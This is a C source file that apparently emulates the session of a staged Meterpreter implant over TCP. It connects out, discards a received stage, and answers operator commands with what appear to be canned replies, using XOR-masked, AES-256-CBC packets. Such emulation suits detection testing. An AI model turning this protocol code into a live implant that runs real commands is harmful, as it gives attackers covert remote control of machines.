/*
 * AN0401: the session of a staged implant, as Meterpreter over TCP: takes a stage (text, which is thrown away), then packets under a
 * XOR key of 4 bytes that stands in front of each; from the second on their body is under AES-256-CBC.
 * usage: stage ADDRESS PORT
 */
#include <string.h>
#include <sys/socket.h>

#include "aes.h"
#include "answers.h"
#include "link.h"

#define HEAD 32

static uint8_t packet[HEAD + AES_BLOCK + ANSWER_MAX + AES_BLOCK];
static uint8_t session[16];
static struct aes aes;

static void turn(uint8_t *bytes, size_t len, const uint8_t key[4])
{
	for (size_t i = 0; i < len; i++)
		bytes[i] ^= key[i % 4];
}

static void put(uint8_t *at, uint32_t value)
{
	for (int i = 0; i < 4; i++)
		at[i] = (uint8_t)(value >> (24 - 8 * i));
}

/* In `body`: an initial value, then what was there, padded. @return its length now */
static size_t encrypt(uint8_t *body, size_t len)
{
	uint8_t pad = (uint8_t)(AES_BLOCK - len % AES_BLOCK);
	uint8_t *before = body;

	memmove(body + AES_BLOCK, body, len);
	memset(body + AES_BLOCK + len, pad, pad);
	link_random(body, AES_BLOCK);
	for (uint8_t *at = body + AES_BLOCK; at < body + AES_BLOCK + len + pad; at += AES_BLOCK) {
		for (int i = 0; i < AES_BLOCK; i++)
			at[i] ^= before[i];
		aes_encrypt(&aes, at);
		before = at;
	}
	return AES_BLOCK + len + pad;
}

static size_t decrypt(uint8_t *body, size_t len)
{
	for (size_t at = len - AES_BLOCK; at > 0; at -= AES_BLOCK) {
		aes_decrypt(&aes, body + at);
		for (size_t i = 0; i < AES_BLOCK; i++)
			body[at + i] ^= body[at - AES_BLOCK + i];
	}
	len -= AES_BLOCK + (size_t)body[len - 1];
	memmove(body, body + AES_BLOCK, len);
	return len;
}

static void say(int fd, const char *text, size_t len, int secret)
{
	size_t total = len;

	memcpy(packet + HEAD, text, len);
	if (secret)
		total = encrypt(packet + HEAD, len);
	link_random(packet, 4);
	memcpy(packet + 4, session, sizeof(session));
	put(packet + 20, secret ? 1 : 0);
	put(packet + 24, (uint32_t)total);
	put(packet + 28, 1);
	turn(packet + 4, HEAD - 4, packet);
	turn(packet + HEAD, total, packet);
	link_send(fd, packet, HEAD + total);
}

static int hear(int fd, char *text, size_t room)
{
	uint8_t *head = packet + 4;
	size_t len;
	int secret;

	if (!link_receive(fd, packet, HEAD))
		return -1;
	turn(head, HEAD - 4, packet);
	secret = head[19] == 1;
	len = (size_t)head[20] << 24 | (size_t)head[21] << 16 | (size_t)head[22] << 8 | head[23];
	if (len == 0 || len > ANSWER_MAX || !link_receive(fd, packet + HEAD, len))
		return -1;
	turn(packet + HEAD, len, packet);
	if (secret)
		len = decrypt(packet + HEAD, len);
	if (len >= room)
		return -1;
	memcpy(text, packet + HEAD, len);
	text[len] = 0;
	return (int)len;
}

int main(int argc, char **argv)
{
	static char text[ANSWER_MAX];
	static uint8_t stage[65536];
	uint8_t size[4];
	char command[256];
	size_t len;
	int fd, secret = 0;

	if (argc != 3)
		return 64;
	fd = link_open(argv[1], argv[2], SOCK_STREAM);
	if (!link_receive(fd, size, 4))
		return 1;
	len = size[0] | (size_t)size[1] << 8 | (size_t)size[2] << 16 | (size_t)size[3] << 24;
	if (len > sizeof(stage) || !link_receive(fd, stage, len))
		return 1;
	aes_begin(&aes, emulation_key, 256);
	link_random(session, sizeof(session));
	len = answer("uname -a", text);
	say(fd, text, len, secret);
	secret = 1;
	while (hear(fd, command, sizeof(command)) >= 0) {
		len = answer(command, text);
		if (len == 0)
			return 0;
		say(fd, text, len, secret);
	}
	return 1;
}
